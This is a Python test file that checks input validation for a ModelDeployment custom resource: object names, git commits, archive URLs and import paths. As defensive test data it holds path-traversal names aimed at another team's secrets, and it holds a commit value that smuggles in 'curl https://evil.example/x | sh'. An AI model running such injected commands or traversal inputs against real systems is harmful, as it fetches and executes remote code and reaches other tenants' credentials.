import copy
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bastaix.api import reasons
from bastaix.api.errors import Stalled
from bastaix.api.patterns import OBJECT_NAME
from bastaix.api.v1alpha1 import ModelDeployment
from tests.api.crd_cases import MINIMAL, SHA256, with_field

HOSTILE = [
    "../../team-b/secrets/git-token",
    "..",
    ".",
    "",
    "a/b",
    "a%2fb",
    "a\nb",
    "a b",
    "-a",
    "a-",
    "a..b",
    "A",
    "é",
    "a?x=1",
    "a#b",
    "a" * 254,
]
GIT = {"repository": "https://github.com/acme/serving", "commit": "3f9c2a1d" * 5}
ARCHIVE = {"url": "https://g.dev/a.zip", "sha256": SHA256}
SECRETS = [
    ("spec.source.git.secretRef", lambda name: {"name": name}),
    ("spec.source", lambda name: {"archive": {**ARCHIVE, "secretRef": {"name": name}}}),
]
OTHERS = [
    ("spec.runtime.serviceAccountName", lambda name: name),
    ("spec.runtime.runtimeClassName", lambda name: name),
    ("spec.runtime.priorityClassName", lambda name: name),
    (
        "spec.rollout.gate",
        lambda name: {"dataset": {"configMapRef": {"name": name, "key": "golden.jsonl"}}},
    ),
]
NAMES = [*SECRETS, *OTHERS]


def ids(names: list[Any]) -> list[str]:
    return [f"{number}-{field}" for number, (field, _) in enumerate(names)]


def md(field: str, value: Any) -> ModelDeployment:
    body = copy.deepcopy(MINIMAL)
    body["metadata"] = {"name": "smollm2", "namespace": "team-a", "uid": "u", "generation": 1}
    with_field(body, field, value)
    return ModelDeployment.from_body(body)


@pytest.mark.parametrize(("field", "value"), SECRETS, ids=ids(SECRETS))
@pytest.mark.parametrize("name", HOSTILE, ids=ascii)
def test_a_name_of_a_secret_that_is_none_is_refused_when_the_object_is_read(
    field: str, value: Any, name: str
) -> None:
    with pytest.raises(Stalled) as refused:
        md(field, value(name))
    assert refused.value.finding.reason == reasons.INVALID_SPEC
    assert "must be the name of an object in this namespace" in refused.value.finding.message


@pytest.mark.parametrize(("field", "value"), OTHERS, ids=ids(OTHERS))
@pytest.mark.parametrize("name", HOSTILE, ids=ascii)
def test_another_name_that_is_none_is_an_objection_to_a_new_revision(
    field: str, value: Any, name: str
) -> None:
    """No CRD had a rule for these, so it may stand in what serves."""
    objection = md(field, value(name)).objection
    assert objection is not None
    assert objection.reason == reasons.INVALID_SPEC
    assert objection.message.startswith("spec.")
    assert "must be the name of an object in this namespace" in objection.message


@pytest.mark.parametrize(("field", "value"), NAMES, ids=ids(NAMES))
def test_a_name_with_dots_and_dashes_is_taken(field: str, value: Any) -> None:
    assert md(field, value("git-token.v1")).objection is None


@pytest.mark.parametrize(
    ("field", "value", "says"),
    [
        ("spec.source.git.commit", "x; curl https://evil.example/x | sh #", "full commit hash"),
        ("spec.source.git.commit", "main", "full commit hash"),
        ("spec.source.git.repository", "https://g.dev/a\nb", "a URL in one line"),
        ("spec.source", {"archive": {**ARCHIVE, "sha256": "x"}}, "64 lower-case hex digits"),
        ("spec.source", {"archive": {**ARCHIVE, "url": "file:a"}}, "a URL"),
        ("spec.app.importPath", "app:build; x", "MODULE:NAME"),
        ("spec.model.id", "a\nb", "letters, digits"),
    ],
)
def test_what_only_the_schema_refused_is_refused_when_the_object_is_read(
    field: str, value: Any, says: str
) -> None:
    with pytest.raises(Stalled) as refused:
        md(field, value)
    assert says in refused.value.finding.message
    assert "evil" not in refused.value.finding.message


@given(st.text(max_size=300))
def test_a_name_of_an_object_is_never_more_than_one_segment_of_a_path(text: str) -> None:
    if OBJECT_NAME.fits(text):
        assert text not in ("", ".", "..")
        assert not set(text) & set("/%?#\\ \n\t")
